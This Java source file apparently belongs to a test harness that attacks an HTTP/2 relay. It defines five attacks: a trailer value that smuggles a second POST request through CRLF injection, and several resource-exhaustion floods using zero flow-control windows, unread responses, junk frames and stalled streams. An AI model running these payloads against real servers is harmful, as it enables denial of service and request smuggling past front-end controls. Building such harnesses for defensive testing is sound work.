package relay.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;

/** Attacks over HTTP/2, most of them without a credential. */
enum Http2Attacks implements Part {
  TRAILERS("requests with a request in their trailers, 10 a second") {
    @Override
    public void attack(Target target) throws IOException {
      try (Http2Wire wire = new Http2Wire(target.port())) {
        for (int n = 0; n < SOME_REQUESTS && !target.isOver(); n++) {
          String body = Requests.body(Target.MODEL, "");
          boolean good = wire.askWithTrailer(Target.ATTACKER, body, "x-trail", SMUGGLED);
          target.happened("trailers", good ? "status 200" : "another status");
          target.pause(100);
        }
      }
    }
  },
  WINDOWS("18 connections of 990 requests each whose answers have no window, and no credential") {
    @Override
    public void attack(Target target) throws Exception {
      ByteArrayOutputStream all = new ByteArrayOutputStream();
      all.writeBytes(Http2Wire.preface(INITIAL_WINDOW_SIZE, 0));
      for (int n = 0; n < 990; n++) {
        all.writeBytes(Http2Wire.stranger(1 + 2 * n));
      }
      hold(target, "windows", 18, all.toByteArray(), 1);
    }
  },
  UNREAD("4 connections that send requests without a credential and read no answer") {
    @Override
    public void attack(Target target) throws Exception {
      try (Crowd crowd = new Crowd(target, "unread", target.port())) {
        crowd.open(4, Http2Wire.preface(INITIAL_WINDOW_SIZE, Integer.MAX_VALUE));
        for (int from = 1; from < 400_000 && !target.isOver(); from += 2_000) {
          ByteArrayOutputStream some = new ByteArrayOutputStream();
          for (int n = 0; n < 1_000; n++) {
            some.writeBytes(Http2Wire.stranger(from + 2 * n));
          }
          crowd.write(some.toByteArray());
          target.pause(20);
        }
      }
      target.pause(BETWEEN_MS);
    }
  },
  FRAMES("4 connections that send unknown frames, pings, settings, priorities and empty data") {
    @Override
    public void attack(Target target) throws Exception {
      byte[][] kinds = {
        Http2Wire.frame(77, 0, 0, new byte[0]),
        Http2Wire.frame(Http2Wire.PING, 0, 0, new byte[8]),
        Http2Wire.frame(Http2Wire.SETTINGS, 0, 0, new byte[0]),
        Http2Wire.frame(2, 0, 1_001, new byte[] {0, 0, 0, 0, 1}),
        Http2Wire.frame(Http2Wire.DATA, 0, 1, new byte[0])
      };
      for (byte[] kind : kinds) {
        ByteBuffer many = ByteBuffer.allocate(10_000 * kind.length);
        while (many.hasRemaining()) {
          many.put(kind);
        }
        hold(target, "frames", 4, Http2Wire.preface(), many.array(), 100);
      }
      target.pause(BETWEEN_MS);
    }
  },
  STREAMS("2 connections of 5,000 requests each whose bodies never come") {
    @Override
    public void attack(Target target) throws Exception {
      ByteArrayOutputStream all = new ByteArrayOutputStream();
      all.writeBytes(Http2Wire.preface());
      for (int n = 0; n < 5_000; n++) {
        all.writeBytes(Http2Wire.head(1 + 2 * n, Target.ATTACKER));
      }
      hold(target, "streams", 2, all.toByteArray(), 1);
    }
  };

  private static final int INITIAL_WINDOW_SIZE = 4;
  private static final int SOME_REQUESTS = 50;
  private static final long BETWEEN_MS = 2_000;
  private static final String SMUGGLED =
      "a\r\ncontent-length: 0\r\n\r\nPOST /v1/smuggled HTTP/1.1\r\nhost: a\r\n"
          + "content-length: 0\r\nx-pad: b";

  private final String what;

  Http2Attacks(String what) {
    this.what = what;
  }

  @Override
  public String what() {
    return what;
  }

  private static void hold(Target target, String part, int number, byte[] bytes, int times)
      throws IOException {
    hold(target, part, number, bytes, new byte[0], times);
  }

  /** Opens connections, writes to them, and closes them after a while. */
  private static void hold(
      Target target, String part, int number, byte[] first, byte[] more, int times)
      throws IOException {
    try (Crowd crowd = new Crowd(target, part, target.port())) {
      crowd.open(number, first);
      for (int n = 0; n < times && !target.isOver(); n++) {
        crowd.write(more);
        target.pause(20);
      }
      target.pause(BETWEEN_MS);
    }
  }
}
